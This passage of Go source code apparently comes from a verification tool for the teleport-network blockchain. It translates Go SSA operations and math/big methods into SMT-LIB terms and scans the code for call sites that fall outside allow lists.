			r.Ptr = p // slice aliases the array cell
		}
		return r
	}
	return e.sliceVal(st, base, lo, hi, x.Type(), x.Pos())
}

func (e *Env) sliceVal(st *State, v Val, lo, hi string, rt types.Type, pos token.Pos) Val {
	n := e.lenOf(st, v)
	if lo == "" {
		lo = bvLit(0, 64)
	}
	if hi == "" {
		hi = n
	}
	if v.K == kArr {
		l, _, ok1 := bvLitVal(lo)
		h, _, ok2 := bvLitVal(hi)
		if ok1 && ok2 && l <= h && int(h) <= len(v.Elems) {
			r := Val{K: kArr, Typ: rt, Sort: e.sortOfT(rt), Elems: append([]Val(nil), v.Elems[l:h]...)}
			if e.sortOfT(rt) == sStr {
				// keep as concrete array of bytes; conversions make literals
			}
			return r
		}
	}
	e.safety(st, tAnd(tApp("bvule", lo, hi), tApp("bvule", hi, n)), "slice-bounds", pos)
	s := e.sortOfT(rt)
	if s == sStr {
		if v.Segs != nil {
			if l, _, ok1 := bvLitVal(lo); ok1 {
				if h, _, ok2 := bvLitVal(hi); ok2 {
					if sub, ok := segsSub(v.Segs, int(l), int(h)); ok {
						return Val{K: kTerm, Typ: rt, Sort: sStr, T: e.segsTerm(sub), Segs: sub}
					}
				}
				if hi == n {
					if sub, ok := segsSuffix(v.Segs, int(l)); ok {
						return Val{K: kTerm, Typ: rt, Sort: sStr, T: e.segsTerm(sub), Segs: sub}
					}
				}
			}
		}
		t := e.term(st, v)
		if lo == bvLit(0, 64) && hi == n {
			r := v
			r.Typ = rt
			return r
		}
		r := e.D.uf("substr", []string{sStr, bvSort(64), bvSort(64)}, sStr, t, lo, hi)
		st.assume(tEq(e.slenBV(st, r), tApp("bvsub", hi, lo)))
		return e.wrapTerm(rt, r)
	}
	if strings.HasPrefix(s, "Slice_") {
		t := e.term(st, v)
		if lo == bvLit(0, 64) {
			return e.wrapTerm(rt, fmt.Sprintf("(mk_%s %s (arr_%s %s))", s, hi, s, t))
		}
		es := sliceElemSort(e.D, s)
		na := e.D.fresh("subarr", fmt.Sprintf("(Array (_ BitVec 64) %s)", es))
		e.notes["sub-slice with non-zero low bound: elements abstracted"]++
		return e.wrapTerm(rt, fmt.Sprintf("(mk_%s (bvsub %s %s) %s)", s, hi, lo, na))
	}
	e.fail("slice of %s", v.Typ)
	return v
}

func (e *Env) typeAssert(st *State, fr *Frame, x *ssa.TypeAssert) Val {
	v := e.eval(st, fr, x.X)
	at := x.AssertedType
	_, toIface := at.Underlying().(*types.Interface)
	mk := func(val Val, ok string) Val {
		if x.CommaOk {
			return Val{K: kTuple, Elems: []Val{val, termVal(types.Typ[types.Bool], sBool, ok)}}
		}
		return val
	}
	if v.K == kIface {
		if toIface {
			if types.Implements(v.Inner.Typ, at.Underlying().(*types.Interface)) || implementsPtr(v.Inner.Typ, at) {
				r := v
				r.Typ = at
				return mk(r, "true")
			}
			if !x.CommaOk {
				e.safety(st, "false", "type-assert", x.Pos())
			}
			return mk(e.zero(st, at), "false")
		}
		if types.Identical(v.Inner.Typ, at) {
			return mk(*v.Inner, "true")
		}
		if !x.CommaOk {
			e.safety(st, "false", "type-assert", x.Pos())
			st.dead = true
		}
		return mk(e.zero(st, at), "false")
	}
	it := e.term(st, v)
	if toIface {
		// interface-to-interface assertion on unknown dynamic type: succeeds iff non-nil and implements (unknown)
		ok := e.D.uf("implements_"+smtSym(at.String()), []string{sIface}, sBool, it)
		if !x.CommaOk {
			e.safety(st, tAnd(tNot(tEq(it, "nilI")), ok), "type-assert", x.Pos())
			r := v
			r.Typ = at
			return r
		}
		r := v
		r.Typ = at
		st.assume(tImplies(ok, tNot(tEq(it, "nilI"))))
		return mk(e.wrapTerm(at, tIte(ok, it, "nilI")), ok)
	}
	tag := e.D.typeTag(typeKey(at))
	ok := tEq(tApp("tagof", it), intLit(int64(tag)))
	ub := e.unbox(st, it, at)
	var val Val
	if p, isP := at.Underlying().(*types.Pointer); isP && !isMathInt(p.Elem()) {
		// pointer payload: make a cell
		if _, isStruct := p.Elem().Underlying().(*types.Struct); isStruct {
			s := e.sortOfT(at)
			inner := e.wrapTerm(p.Elem(), tApp("val_"+s, ub))
			c := e.newCell(st, inner)
			nilc := tEq(ub, "none_"+s)
			if strings.Contains(it, "spec_unmarshalIface") {
				// a message unpacked from a protobuf Any is a non-nil pointer to a fresh message
				e.trusted["protobuf Any codec: an unpacked message is a non-nil pointer"]++
				st.assume(tImplies(ok, tNot(nilc)))
			}
			val = Val{K: kPtr, Typ: at, Ptr: &Pointer{Cell: c, RO: true}, Nil: nilc}
		} else {
			val = e.wrapTerm(at, ub)
		}
	} else {
		val = e.wrapTerm(at, ub)
	}
	if !x.CommaOk {
		e.safety(st, ok, "type-assert", x.Pos())
		return val
	}
	return mk(val, ok)
}

func implementsPtr(t types.Type, iface types.Type) bool {
	it, ok := iface.Underlying().(*types.Interface)
	if !ok {
		return false
	}
	return types.Implements(types.NewPointer(t), it)
}

// ---------------------------------------------------------------------------
// maps

func (e *Env) lookup(st *State, fr *Frame, x *ssa.Lookup) Val {
	m := e.eval(st, fr, x.X)
	k := e.eval(st, fr, x.Index)
	ms := e.sortOfT(m.Typ)
	if ms == sStr {
		// string index
		return e.index(st, m, e.toBV64(st, k), x.Pos())
	}
	mt := e.term(st, m)
	kt := e.term(st, k)
	mp := m.Typ.Underlying().(*types.Map)
	has := fmt.Sprintf("(select (dom_%s %s) %s)", ms, mt, kt)
	val := fmt.Sprintf("(select (val_%s %s) %s)", ms, mt, kt)
	zv := e.term(st, e.zero(st, mp.Elem()))
	v := e.wrapTerm(mp.Elem(), tIte(has, val, zv))
	if x.CommaOk {
		return Val{K: kTuple, Elems: []Val{v, termVal(types.Typ[types.Bool], sBool, has)}}
	}
	return v
}

func (e *Env) mapUpdate(st *State, fr *Frame, x *ssa.MapUpdate) {
	mv := e.eval(st, fr, x.Map)
	k := e.term(st, e.eval(st, fr, x.Key))
	v := e.term(st, e.eval(st, fr, x.Value))
	ms := e.sortOfT(mv.Typ)
	mt := e.term(st, mv)
	nt := fmt.Sprintf("(mk_%s (store (dom_%s %s) %s true) (store (val_%s %s) %s %s))", ms, ms, mt, k, ms, mt, k, v)
	// maps are reference types: update every register/cell holding this map term is not tracked;
	// we rebind the SSA value (maps created and updated in one function is the supported pattern).
	nv := e.wrapTerm(mv.Typ, nt)
	fr.regs[x.Map] = nv
	// also cells holding the same term
	for id, cv := range st.cells {
		if cv.K == kTerm && cv.T == mt {
			st.cells[id] = nv
		}
	}
	// the map was loaded from a variable / struct field (m := s.f; m[k] = v): the update is visible through that
	// location (maps are references), so the new map value is written back there
	if u, ok := x.Map.(*ssa.UnOp); ok && u.Op == token.MUL {
		if pv, ok := fr.regs[u.X]; ok && pv.K == kPtr && pv.Nil == "" {
			if cur := e.load(st, pv.Ptr); cur.K == kTerm && cur.T == mt {
				e.store(st, pv.Ptr, nv)
			}
		}
	}
}

// ---------------------------------------------------------------------------
// range

func (e *Env) rangeStart(st *State, fr *Frame, x *ssa.Range) Val {
	v := e.eval(st, fr, x.X)
	e.iterN++
	it := &IterRef{ID: e.iterN, Over: &v}
	if _, ok := v.Typ.Underlying().(*types.Map); ok {
		ms := e.sortOfT(v.Typ)
		mp := v.Typ.Underlying().(*types.Map)
		ks := e.sortOfT(mp.Key())
		it.Visited = fmt.Sprintf("((as const (Array %s Bool)) false)", ks)
		_ = ms
	}
	return Val{K: kIter, Typ: x.Type(), Iter: it}
}

func (e *Env) rangeNext(st *State, fr *Frame, x *ssa.Next) Val {
	itv := e.eval(st, fr, x.Iter)
	it := itv.Iter
	over := *it.Over
	boolT := types.Typ[types.Bool]
	if mp, ok := over.Typ.Underlying().(*types.Map); ok {
		// arbitrary unvisited key (any iteration order)
		ms := e.sortOfT(over.Typ)
		ks := e.sortOfT(mp.Key())
		mt := e.term(st, over)
		k := e.D.fresh("mapkey", ks)
		okc := e.D.fresh("maphas", sBool)
		visited := it.Visited
		if visited == "" {
			visited = fmt.Sprintf("((as const (Array %s Bool)) false)", ks)
		}
		// ok ==> key in dom and not visited ; !ok ==> all dom keys visited (stated pointwise as a quantifier)
		st.assume(tImplies(okc, tAnd(fmt.Sprintf("(select (dom_%s %s) %s)", ms, mt, k), tNot(fmt.Sprintf("(select %s %s)", visited, k)))))
		st.assume(tImplies(tNot(okc), fmt.Sprintf("(forall ((kk %s)) (=> (select (dom_%s %s) kk) (select %s kk)))", ks, ms, mt, visited)))
		nit := *it
		nit.Visited = fmt.Sprintf("(store %s %s true)", visited, k)
		fr.regs[x.Iter] = Val{K: kIter, Typ: itv.Typ, Iter: &nit}
		val := e.wrapTerm(mp.Elem(), fmt.Sprintf("(select (val_%s %s) %s)", ms, mt, k))
		return Val{K: kTuple, Elems: []Val{termVal(boolT, sBool, okc), e.wrapTerm(mp.Key(), k), val}}
	}
	// string range: abstract (index, rune) pairs
	okc := e.D.fresh("strhas", sBool)
	i := e.D.fresh("stridx", bvSort(64))
	r := e.D.fresh("rune", bvSort(32))
	return Val{K: kTuple, Elems: []Val{termVal(boolT, sBool, okc), termVal(types.Typ[types.Int], bvSort(64), i), termVal(types.Typ[types.Rune], bvSort(32), r)}}
}
