package main

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// math/big.Int: values are mathematical integers (sort Int); the methods used by teleport are
// modelled as arithmetic on the pointed-to cell.  z.Op(x, y) stores the result in z and returns z.
// Division by zero panics (a safety condition, an obligation under `nopanic`).

func (e *Env) bigVal(st *State, v Val, pos token.Pos) string {
	p := e.asPointer(st, v, pos)
	return e.term(st, e.load(st, p))
}

// bigSet stores t in the big.Int z points to and returns z (the receiver), like the real methods do.
func (e *Env) bigSet(st *State, z Val, t string, pos token.Pos) Val {
	p := e.asPointer(st, z, pos)
	nv := Val{K: kTerm, Typ: mathIntType(), Sort: sInt, T: t}
	if p.RO || z.K != kPtr {
		// receiver reached through a data structure: the result is returned in a fresh big.Int (aliasing with
		// the receiver is not tracked; teleport uses the returned pointer)
		e.notes["big.Int method on a receiver loaded from a data structure: result returned in a fresh value"]++
		c := e.newCell(st, nv)
		return Val{K: kPtr, Typ: z.Typ, Ptr: &Pointer{Cell: c}}
	}
	e.store(st, p, nv)
	return z
}

func sbvToInt(t string) string {
	return fmt.Sprintf("(ite (bvslt %s (_ bv0 64)) (- (bv2nat (bvneg %s))) (bv2nat %s))", t, t, t)
}

func init() {
	const bi = "(*math/big.Int)."
	pos := func(c *ssa.CallCommon) token.Pos {
		if c != nil {
			return c.Pos()
		}
		return token.NoPos
	}
	bin := func(op func(x, y string) string) intrinsic {
		return func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			x, y := e.bigVal(st, args[1], pos(c)), e.bigVal(st, args[2], pos(c))
			return one(st, e.bigSet(st, args[0], op(x, y), pos(c)))
		}
	}
	intrinsicsByName[bi+"Add"] = bin(func(x, y string) string { return tApp("+", x, y) })
	intrinsicsByName[bi+"Sub"] = bin(func(x, y string) string { return tApp("-", x, y) })
	intrinsicsByName[bi+"Mul"] = bin(func(x, y string) string { return tApp("*", x, y) })
	// Div/Mod are Euclidean (SMT-LIB div/mod); Quo/Rem truncate towards zero
	divLike := func(f func(x, y string) string) intrinsic {
		return func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			x, y := e.bigVal(st, args[1], pos(c)), e.bigVal(st, args[2], pos(c))
			e.safety(st, tNot(tEq(y, "0")), "big-division-by-zero", pos(c))
			return one(st, e.bigSet(st, args[0], f(x, y), pos(c)))
		}
	}
	intrinsicsByName[bi+"Div"] = divLike(func(x, y string) string { return tApp("div", x, y) })
	intrinsicsByName[bi+"Mod"] = divLike(func(x, y string) string { return tApp("mod", x, y) })
	intrinsicsByName[bi+"Quo"] = divLike(func(x, y string) string {
		// truncated division: sign(x)*sign(y) * (|x| div |y|)
		q := tApp("div", tApp("abs", x), tApp("abs", y))
		return tIte(tEq(tApp("<", x, "0"), tApp("<", y, "0")), q, tApp("-", q))
	})
	intrinsicsByName[bi+"Rem"] = divLike(func(x, y string) string {
		r := tApp("mod", tApp("abs", x), tApp("abs", y))
		return tIte(tApp("<", x, "0"), tApp("-", r), r)
	})
	un := func(op func(x string) string) intrinsic {
		return func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			x := e.bigVal(st, args[1], pos(c))
			return one(st, e.bigSet(st, args[0], op(x), pos(c)))
		}
	}
	intrinsicsByName[bi+"Set"] = un(func(x string) string { return x })
	intrinsicsByName[bi+"Neg"] = un(func(x string) string { return tApp("-", x) })
	intrinsicsByName[bi+"Abs"] = un(func(x string) string { return tApp("abs", x) })
	intrinsicsByName[bi+"SetUint64"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		t := e.term(st, args[1])
		if x, _, ok := bvLitVal(t); ok {
			return one(st, e.bigSet(st, args[0], fmt.Sprintf("%d", x), pos(c)))
		}
		return one(st, e.bigSet(st, args[0], tApp("bv2nat", t), pos(c)))
	}
	intrinsicsByName[bi+"SetInt64"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.bigSet(st, args[0], sbvToInt(e.term(st, args[1])), pos(c)))
	}
	intrinsicsByName["math/big.NewInt"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		t := e.term(st, args[0])
		var it string
		if x, _, ok := bvLitVal(t); ok {
			it = intLit(int64(x))
		} else {
			it = sbvToInt(t)
		}
		cell := e.newCell(st, Val{K: kTerm, Typ: mathIntType(), Sort: sInt, T: it})
		return one(st, Val{K: kPtr, Typ: types.NewPointer(lookupNamed(e, "math/big", "Int")), Ptr: &Pointer{Cell: cell}})
	}
	intrinsicsByName["github.com/ethereum/go-ethereum/common/math.BigMax"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// returns whichever argument is larger (x when equal): a pointer to that value
		x, y := e.bigVal(st, args[0], pos(c)), e.bigVal(st, args[1], pos(c))
		cell := e.newCell(st, Val{K: kTerm, Typ: mathIntType(), Sort: sInt, T: tIte(tApp("<", x, y), y, x)})
		return one(st, Val{K: kPtr, Typ: args[0].Typ, Ptr: &Pointer{Cell: cell}})
	}
	intrinsicsByName[bi+"SetBytes"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// big-endian unsigned: an uninterpreted non-negative function of the bytes
		b := e.term(st, args[1])
		t := e.D.uf("bytes2nat", []string{sStr}, sInt, b)
		st.define(tApp("<=", "0", t))
		return one(st, e.bigSet(st, args[0], t, pos(c)))
	}
	intrinsicsByName[bi+"Bytes"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		x := e.bigVal(st, args[0], pos(c))
		return one(st, e.wrapTerm(bytesType, e.D.uf("nat2bytes", []string{sInt}, sStr, x)))
	}
	intrinsicsByName[bi+"Cmp"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		x, y := e.bigVal(st, args[0], pos(c)), e.bigVal(st, args[1], pos(c))
		w := 64
		lt, eq := tApp("<", x, y), tEq(x, y)
		if strings.HasPrefix(x, "(bv2nat ") && strings.HasPrefix(y, "(bv2nat ") {
			// both operands are unsigned machine integers lifted by SetUint64: compare them as bit-vectors
			// (bv2nat is monotone and injective; keeps the query inside the bit-vector theory)
			bx, by := x[len("(bv2nat "):len(x)-1], y[len("(bv2nat "):len(y)-1]
			lt, eq = tApp("bvult", bx, by), tEq(bx, by)
		}
		r := tIte(lt, bvLit(^uint64(0), w), tIte(eq, bvLit(0, w), bvLit(1, w)))
		return one(st, termVal(types.Typ[types.Int], bvSort(w), r))
	}
	intrinsicsByName[bi+"Sign"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		x := e.bigVal(st, args[0], pos(c))
		w := 64
		r := tIte(tApp("<", x, "0"), bvLit(^uint64(0), w), tIte(tEq(x, "0"), bvLit(0, w), bvLit(1, w)))
		return one(st, termVal(types.Typ[types.Int], bvSort(w), r))
	}
	intrinsicsByName[bi+"IsUint64"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		x := e.bigVal(st, args[0], pos(c))
		return one(st, boolVal(tAnd(tApp("<=", "0", x), tApp("<=", x, "18446744073709551615"))))
	}
	intrinsicsByName[bi+"IsInt64"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		x := e.bigVal(st, args[0], pos(c))
		return one(st, boolVal(tAnd(tApp("<=", "(- 9223372036854775808)", x), tApp("<=", x, "9223372036854775807"))))
	}
	intrinsicsByName[bi+"Uint64"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// the low 64 bits; exact when IsUint64 (u64of is the inverse of bv2nat on that range)
		x := e.bigVal(st, args[0], pos(c))
		r := e.D.uf("u64of", []string{sInt}, bvSort(64), x)
		st.define(tImplies(tAnd(tApp("<=", "0", x), tApp("<=", x, "18446744073709551615")), tEq(tApp("bv2nat", r), x)))
		return one(st, termVal(types.Typ[types.Uint64], bvSort(64), r))
	}
}
