package main

import (
	"fmt"
	"go/types"
	"path"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Frame inventory: mechanical scan of the SSA of all loaded teleport packages for
// call sites of a given kind; each enclosing function must be on the rule's allow list.
// A new writer / caller that is not listed fails a named "inventory" obligation.

type site struct {
	Fn   string // enclosing function (relative name)
	Pos  string
	What string
	ArgT string // kind "argtype": the static type of the inspected argument
}

func relFuncName(fn *ssa.Function) string {
	s := fn.String()
	s = strings.ReplaceAll(s, modPath+"/", "")
	return s
}

func allFunctions(p *Program) []*ssa.Function {
	var out []*ssa.Function
	seen := map[*ssa.Function]bool{}
	var add func(f *ssa.Function)
	add = func(f *ssa.Function) {
		if f == nil || seen[f] || f.Blocks == nil {
			return
		}
		seen[f] = true
		out = append(out, f)
		for _, an := range f.AnonFuncs {
			add(an)
		}
	}
	for _, sp := range p.SSA {
		if !strings.HasPrefix(sp.Pkg.Path(), modPath) {
			continue
		}
		for _, m := range sp.Members {
			switch x := m.(type) {
			case *ssa.Function:
				add(x)
			case *ssa.Type:
				for _, T := range []types.Type{x.Type(), types.NewPointer(x.Type())} {
					ms := p.Prog.MethodSets.MethodSet(T)
					for i := 0; i < ms.Len(); i++ {
						f := p.Prog.MethodValue(ms.At(i))
						if f != nil && f.Synthetic == "" {
							add(f)
						}
					}
				}
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	return out
}

func isKVStoreType(t types.Type) bool {
	s := t.String()
	return strings.HasSuffix(s, "cosmos-sdk/store/types.KVStore") || strings.HasSuffix(s, "cosmos-sdk/types.KVStore") || strings.HasSuffix(s, "store/prefix.Store") || strings.HasSuffix(s, "cosmos-sdk/store/types.CommitKVStore")
}

// scanSites returns the call sites matching the rule kind.
func scanSites(p *Program, rule InventoryRule) []site {
	var out []site
	for _, fn := range allFunctions(p) {
		if strings.HasSuffix(p.Prog.Fset.Position(fn.Pos()).Filename, "_test.go") {
			continue
		}
		for _, b := range fn.Blocks {
			for _, ins := range b.Instrs {
				// statement-level sources of nondeterminism (C14)
				stmtHit, what := false, ""
				switch x := ins.(type) {
				case *ssa.Range:
					if _, isMap := x.X.Type().Underlying().(*types.Map); isMap && rule.Kind == "maprange" {
						stmtHit, what = true, "range over "+strings.ReplaceAll(x.X.Type().String(), modPath+"/", "")
					}
				case *ssa.Store:
					if rule.Kind == "globalwrites" && !strings.HasPrefix(fn.Name(), "init") {
						a := x.Addr
						for i := 0; i < 10; i++ {
							if fa, ok := a.(*ssa.FieldAddr); ok {
								a = fa.X
								continue
							}
							if ia, ok := a.(*ssa.IndexAddr); ok {
								a = ia.X
								continue
							}
							break
						}
						if g, ok := a.(*ssa.Global); ok {
							stmtHit, what = true, "write to package-level variable "+g.Name()
						}
					}
				case *ssa.MapUpdate:
					if rule.Kind == "globalwrites" && !strings.HasPrefix(fn.Name(), "init") {
						if u, ok := x.Map.(*ssa.UnOp); ok {
							if g, ok := u.X.(*ssa.Global); ok {
								stmtHit, what = true, "update of package-level map "+g.Name()
							}
						}
					}
				case *ssa.Go:
					if rule.Kind == "gostmt" {
						stmtHit, what = true, "go statement"
					}
				case *ssa.Select:
					if rule.Kind == "selectstmt" {
						stmtHit, what = true, "select statement"
					}
				}
				if stmtHit {
					ps := p.Prog.Fset.Position(ins.Pos())
					owner := fn
					for owner.Parent() != nil {
						owner = owner.Parent()
					}
					out = append(out, site{Fn: relFuncName(owner), Pos: fmt.Sprintf("%s:%d", strings.TrimPrefix(ps.Filename, repoDir()+"/"), ps.Line), What: what})
					continue
				}
				ci, ok := ins.(ssa.CallInstruction)
				if !ok {
					continue
				}
				c := ci.Common()
				name := callName(c)
				hit := false
				argT := ""
				switch rule.Kind {
				case "kvwriters":
					if c.IsInvoke() && (c.Method.Name() == "Set" || c.Method.Name() == "Delete") && isKVStoreType(c.Value.Type()) {
						hit = true
					}
					if f := c.StaticCallee(); f != nil && (f.Name() == "Set" || f.Name() == "Delete") && f.Signature.Recv() != nil && isKVStoreType(f.Signature.Recv().Type()) {
						hit = true
					}
				case "kvdeleters":
					if c.IsInvoke() && c.Method.Name() == "Delete" && isKVStoreType(c.Value.Type()) {
						hit = true
					}
					if f := c.StaticCallee(); f != nil && f.Name() == "Delete" && f.Signature.Recv() != nil && isKVStoreType(f.Signature.Recv().Type()) {
						hit = true
					}
				case "callers":
					rel := strings.ReplaceAll(name, modPath+"/", "")
					for _, fam := range strings.Split(rule.Family, "|") {
						if fam == "" {
							continue
						}
						// a family that starts with "=" must be a prefix of the callee's name (e.g. "=os." does not match "cosmos.")
						if strings.HasPrefix(fam, "=") {
							if strings.HasPrefix(rel, fam[1:]) {
								hit = true
							}
						} else if strings.Contains(rel, fam) {
							hit = true
						}
					}
				case "argtype":
					if strings.Contains(strings.ReplaceAll(name, modPath+"/", ""), rule.Family) && rule.Arg < len(c.Args) {
						hit = true
						argT = staticArgType(c.Args[rule.Arg])
					}
				}
				if !hit {
					continue
				}
				ps := p.Prog.Fset.Position(ins.Pos())
				owner := fn
				for owner.Parent() != nil {
					owner = owner.Parent()
				}
				out = append(out, site{Fn: relFuncName(owner), Pos: fmt.Sprintf("%s:%d", strings.TrimPrefix(ps.Filename, repoDir()+"/"), ps.Line), What: name, ArgT: argT})
			}
		}
	}
	return out
}

// staticArgType: the type of the value behind interface conversions, loads and copies.
func staticArgType(v ssa.Value) string {
	for i := 0; i < 8; i++ {
		switch x := v.(type) {
		case *ssa.MakeInterface:
			v = x.X
			continue
		case *ssa.ChangeInterface:
			v = x.X
			continue
		case *ssa.ChangeType:
			v = x.X
			continue
		}
		break
	}
	return strings.ReplaceAll(v.Type().String(), modPath+"/", "")
}

func matchAny(name string, pats []string) bool {
	for _, p := range pats {
		if p == name {
			return true
		}
		if ok, _ := path.Match(p, name); ok {
			return true
		}
		if strings.Contains(p, "*") && wildMatch(p, name) {
			return true
		}
		if strings.HasSuffix(p, "*") && strings.HasPrefix(name, strings.TrimSuffix(p, "*")) {
			return true
		}
	}
	return false
}

// wildMatch: '*' matches any run of characters (including '/'), everything else literally.
func wildMatch(pat, name string) bool {
	parts := strings.Split(pat, "*")
	if !strings.HasPrefix(name, parts[0]) {
		return false
	}
	name = name[len(parts[0]):]
	for i := 1; i < len(parts); i++ {
		pt := parts[i]
		if i == len(parts)-1 {
			return strings.HasSuffix(name, pt)
		}
		j := strings.Index(name, pt)
		if j < 0 {
			return false
		}
		name = name[j+len(pt):]
	}
	return name == ""
}

func runInventory(p *Program, cx *Contracts, cfg *PropConfig) []*Obligation {
	var out []*Obligation
	d := newDecls()
	for _, rule := range cfg.Inventory {
		sites := scanSites(p, rule)
		var bad []string
		hitFns := map[string]bool{}
		for _, s := range sites {
			if rule.Scope != "" && !strings.HasPrefix(s.Fn, rule.Scope) && !strings.Contains(s.Fn, "("+rule.Scope) && !strings.Contains(s.Fn, "(*"+rule.Scope) {
				continue
			}
			hitFns[s.Fn] = true
			if rule.Kind == "argtype" {
				if !strings.Contains(s.ArgT, rule.ArgType) {
					bad = append(bad, fmt.Sprintf("%s at %s passes %s as argument %d of %s (want %s)", s.Fn, s.Pos, s.ArgT, rule.Arg, lastName(s.What), rule.ArgType))
				}
				continue
			}
			if !matchAny(s.Fn, rule.Allowed) {
				bad = append(bad, fmt.Sprintf("%s at %s (%s)", s.Fn, s.Pos, lastName(s.What)))
			}
		}
		// an allowed function may not grow further sites of the kind (the allow list is per function; the count pins it)
		perFn := map[string]int{}
		for _, s := range sites {
			perFn[s.Fn]++
		}
		for fn, max := range rule.MaxSites {
			if perFn[fn] > max {
				bad = append(bad, fmt.Sprintf("%s has %d sites of this kind, %d on the pinned tree", fn, perFn[fn], max))
			}
		}
		sort.Strings(bad)
		o := &Obligation{Fn: "inventory", Kind: "inventory", Label: rule.Name, Goal: "true", decls: d, Detail: rule.Reason}
		o.Solver = "scan"
		if len(hitFns) == 0 && rule.ExpectNone {
			o.Status = "unsat"
		} else if len(hitFns) == 0 {
			o.Status = "unknown"
			o.Model = "inventory rule matched no site at all (vacuous)"
		} else if len(bad) == 0 {
			o.Status = "unsat"
		} else {
			o.Status = "sat"
			o.Model = "sites outside the allow list:\n  " + strings.Join(bad, "\n  ")
		}
		o.precomputed = true
		out = append(out, o)
	}
	return out
}

func cmdInventory(args []string) {
	if len(args) < 1 {
		fmt.Println("usage: govc inventory <kind> [family] [scope]")
		return
	}
	p, err := loadProgram(defaultPackages, nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	rule := InventoryRule{Kind: args[0]}
	if len(args) > 1 {
		rule.Family = args[1]
	}
	scope := ""
	if len(args) > 2 {
		scope = args[2]
	}
	byFn := map[string][]string{}
	for _, s := range scanSites(p, rule) {
		if scope != "" && !strings.Contains(s.Fn, scope) {
			continue
		}
		byFn[s.Fn] = append(byFn[s.Fn], s.Pos)
	}
	var fns []string
	for f := range byFn {
		fns = append(fns, f)
	}
	sort.Strings(fns)
	for _, f := range fns {
		fmt.Printf("%s   %s\n", f, strings.Join(byFn[f], " "))
	}
}
