package main

import (
	"fmt"
	"go/types"
	"os"
	"sort"
	"strings"
	"time"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

const modPath = "github.com/teleport-network/teleport"

// Program is the loaded SSA of the teleport packages a check needs.
type Program struct {
	Prog   *ssa.Program
	Pkgs   []*packages.Package
	SSA    map[string]*ssa.Package // by package path
	ByName map[string][]string     // short package name -> paths
	LoadS  float64
	Files  map[string][]byte // contract file contents by package path
}

func repoDir() string {
	if d := os.Getenv("VERIF_REPO"); d != "" {
		return d
	}
	return "/repo"
}

// loadProgram loads the given package patterns (relative to the repo) with the verif tag.
func loadProgram(patterns []string, overlay map[string][]byte) (*Program, error) {
	t0 := time.Now()
	cfg := &packages.Config{
		Mode:       packages.LoadSyntax | packages.NeedModule,
		Dir:        repoDir(),
		BuildFlags: []string{"-tags=verif"},
		Env:        append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local"),
		Overlay:    overlay,
	}
	pkgs, err := packages.Load(cfg, patterns...)
	if err != nil {
		return nil, err
	}
	var errs []string
	packages.Visit(pkgs, nil, func(p *packages.Package) {
		for _, e := range p.Errors {
			errs = append(errs, e.Error())
		}
	})
	if len(errs) > 0 {
		return nil, fmt.Errorf("load errors:\n%s", strings.Join(errs, "\n"))
	}
	prog, spkgs := ssautil.Packages(pkgs, ssa.GlobalDebug|ssa.InstantiateGenerics)
	p := &Program{Prog: prog, Pkgs: pkgs, SSA: map[string]*ssa.Package{}, ByName: map[string][]string{}}
	for i, sp := range spkgs {
		if sp == nil {
			continue
		}
		sp.Build()
		p.SSA[pkgs[i].PkgPath] = sp
		p.ByName[pkgs[i].Name] = append(p.ByName[pkgs[i].Name], pkgs[i].PkgPath)
	}
	p.LoadS = time.Since(t0).Seconds()
	return p, nil
}

// lookupFunc finds a function by "pkgpath.Func" or "pkgpath.(Recv).Method" / "pkgpath.(*Recv).Method".
func (p *Program) lookupFunc(pkgPath, recv, name string) *ssa.Function {
	sp := p.SSA[pkgPath]
	if sp == nil {
		return nil
	}
	if recv == "" {
		return sp.Func(name)
	}
	ptr := strings.HasPrefix(recv, "*")
	tn := strings.TrimPrefix(recv, "*")
	m := sp.Members[tn]
	t, ok := m.(*ssa.Type)
	if !ok {
		return nil
	}
	var T types.Type = t.Type()
	if ptr {
		T = types.NewPointer(T)
	}
	ms := p.Prog.MethodSets.MethodSet(T)
	for i := 0; i < ms.Len(); i++ {
		sel := ms.At(i)
		if sel.Obj().Name() == name {
			return p.Prog.MethodValue(sel)
		}
	}
	// try the other pointer-ness
	if !ptr {
		ms = p.Prog.MethodSets.MethodSet(types.NewPointer(T))
		for i := 0; i < ms.Len(); i++ {
			sel := ms.At(i)
			if sel.Obj().Name() == name {
				return p.Prog.MethodValue(sel)
			}
		}
	}
	return nil
}

func cmdDump(args []string) {
	if len(args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: govc dump <pkgpattern> <func|(Recv).Method>...")
		os.Exit(2)
	}
	p, err := loadProgram([]string{args[0]}, nil)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	fmt.Fprintf(os.Stderr, "loaded in %.1fs\n", p.LoadS)
	var paths []string
	for k := range p.SSA {
		paths = append(paths, k)
	}
	sort.Strings(paths)
	for _, spec := range args[1:] {
		recv, name := "", spec
		if strings.HasPrefix(spec, "(") {
			i := strings.Index(spec, ").")
			recv, name = spec[1:i], spec[i+2:]
		}
